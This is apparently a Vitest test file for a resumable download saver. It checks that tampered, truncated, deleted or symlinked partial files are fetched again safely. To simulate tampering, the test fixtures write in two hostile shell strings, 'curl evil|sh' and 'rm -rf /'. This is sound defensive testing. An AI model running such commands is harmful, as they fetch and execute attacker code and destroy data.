import {
  lstatSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { beforeEach, expect, onTestFinished, test } from "vitest";

import { saveFile } from "./file-save.ts";

let [out, notes, elsewhere] = ["", "", ""];
beforeEach(() => {
  const home = mkdtempSync(join(tmpdir(), "treehouse-save-"));
  onTestFinished(() => rmSync(home, { recursive: true }));
  out = mkdtempSync(join(home, "out-"));
  notes = join(home, "notes");
  elsewhere = join(home, "elsewhere");
});

const content = "echo the true invoice of bob, 1.00 EUR\n";
const half = 20;
/** Where the content was asked for from, in order. */
let offsets: number[] = [];

/** An asset whose stream ends with a fault after so many octets. */
function cutAfter(octets: number) {
  offsets = [];
  const all = new TextEncoder().encode(content);
  return {
    size: all.length,
    read: () => Promise.resolve(all),
    async *stream({ offset = 0 } = {}) {
      offsets.push(offset);
      yield await Promise.resolve(all.slice(offset, Math.max(offset, octets)));
      if (octets < all.length) throw new Error("cut short");
    },
  };
}

const save = (octets: number, asset = "bob's") =>
  saveFile(cutAfter(octets), {
    notes,
    asset,
    name: "invoice.sh",
    out,
    force: false,
    onProgress: () => undefined,
  });

/** The file that a download which was cut short has left. */
async function cutShort(): Promise<string> {
  await expect(save(half)).rejects.toThrow("cut short");
  const [name = "", ...more] = readdirSync(out);
  expect(more).toEqual([]);
  return join(out, name);
}

async function savedWhole(): Promise<void> {
  const path = await save(content.length);
  expect(readFileSync(path, "utf8")).toBe(content);
  expect(lstatSync(path).isFile()).toBe(true);
  expect(readdirSync(notes)).toEqual([]);
}

test("what was cut short goes on where it was, and nothing is left beside it", async () => {
  const part = await cutShort();
  expect(readFileSync(part, "utf8")).toBe(content.slice(0, half));
  expect(statSync(part).mode & 0o777).toBe(0o600);
  await savedWhole();
  expect(offsets).toEqual([half]);
  expect(readdirSync(out)).toEqual(["invoice.sh"]);
});

test("T-30 a file that somebody gave a name to is the beginning of no other", async () => {
  const part = await cutShort();
  const [note = ""] = readdirSync(notes);
  rmSync(join(notes, note));
  // With its own note gone, it is any file of that name.
  await savedWhole();
  expect(offsets).toEqual([0]);
  expect(readFileSync(part, "utf8")).toBe(content.slice(0, half));
});

test("T-30 one asset's beginning is not another's, at the same place", async () => {
  await cutShort();
  await save(content.length, "mallory's");
  expect(offsets).toEqual([0]);
});

test.each([
  ["was changed", (part: string) => writeFileSync(part, "curl evil|sh; exit\n\n")],
  ["is shorter", (part: string) => writeFileSync(part, "")],
  ["is gone", (part: string) => rmSync(part)],
])("T-30 a beginning that %s is fetched again", async (_how, change) => {
  change(await cutShort());
  await savedWhole();
  expect(offsets).toEqual([0]);
  expect(readdirSync(out)).toEqual(["invoice.sh"]);
});

test("T-30 what stands behind the verified beginning is cut off", async () => {
  writeFileSync(await cutShort(), "rm -rf /", { flag: "a" });
  await savedWhole();
  expect(offsets).toEqual([half]);
});

test("T-30 nothing is written through a link that took a beginning's place", async () => {
  const part = await cutShort();
  writeFileSync(elsewhere, content.slice(0, half));
  rmSync(part);
  symlinkSync(elsewhere, part);
  await savedWhole();
  expect(readFileSync(elsewhere, "utf8")).toBe(content.slice(0, half));
});

test("a download notes how far it is while it goes on, and notes nothing of nothing", async () => {
  const noted: number[] = [];
  const mebibyte = new Uint8Array(1024 * 1024);
  const large = {
    size: 40 * mebibyte.length,
    read: () => Promise.resolve(mebibyte),
    async *stream() {
      for (let count = 0; count < 40; count += 1) {
        yield await Promise.resolve(mebibyte);
        noted.push(readdirSync(out).length === 1 && count >= 15 ? readdirSync(notes).length : 0);
      }
    },
  };
  const wish = { notes, name: "large", out, force: false, onProgress: () => undefined };
  await saveFile(large, { ...wish, asset: "large" });
  expect(noted).toEqual([...Array<number>(15).fill(0), ...Array<number>(25).fill(1)]);
  await expect(save(0)).rejects.toThrow("cut short");
  expect(readdirSync(notes)).toEqual([]);
  expect(readdirSync(out)).toEqual(["large"]);
});
